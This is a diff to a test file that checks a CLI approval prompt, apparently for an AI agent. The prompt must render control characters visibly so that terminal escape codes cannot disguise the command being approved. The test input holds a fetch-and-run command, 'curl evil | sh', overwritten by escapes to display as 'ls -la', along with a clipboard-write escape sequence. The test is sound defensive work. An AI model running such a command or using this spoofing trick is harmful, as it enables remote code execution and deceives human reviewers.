@@ -23,5 +23,39 @@ describe('terminalSafe: a container log printed on the user’s terminal', () =>
     // An escape cut at the end of the log goes too.
     expect(terminalSafe('tail\u001b')).toBe('tail');
     expect(terminalSafe('tail\u001b]52;c;unterminated')).toBe('tail');
+    // A line of CRLF output split on \n keeps its \r: no blank line after it.
+    expect(terminalSafe('line of a Windows tool\r')).toBe('line of a Windows tool');
+  });
+});
+
+describe('the CLI approval prompt', () => {
+  it('shows every control character of what it asks to approve; none acts on the terminal', async () => {
+    const { PassThrough } = await import('node:stream');
+    const { promptApproval } = await import('../../../src-main/cli/commands/chat-support');
+    const input = new PassThrough();
+    const saved = Object.getOwnPropertyDescriptor(process, 'stdin')!;
+    Object.defineProperty(process, 'stdin', { value: input, configurable: true });
+    const written: string[] = [];
+    try {
+      const answered = promptApproval(
+        {
+          summary: 'curl evil | sh \r\u001b[2K\u001b[1Als -la',
+          reason: 'balanced preset: commands that are not read-only ask.\u001b]52;c;eA==\u0007',
+          diff: null,
+          sessionRule: 'curl *',
+          risk: 'high',
+        } as never,
+        (s) => written.push(s),
+      );
+      input.write('y\n');
+      expect(await answered).toEqual({ decision: 'approve_once' });
+    } finally {
+      Object.defineProperty(process, 'stdin', saved);
+    }
+    const shown = written.join('');
+    expect(shown).toContain('curl evil | sh ␍␛[2K␛[1Als -la');
+    expect(shown).toContain('ask.␛]52;c;eA==?');
+    // eslint-disable-next-line no-control-regex -- checking that none is left
+    expect(shown).not.toMatch(/[\u001b\r\u0007]/);
   });
 });
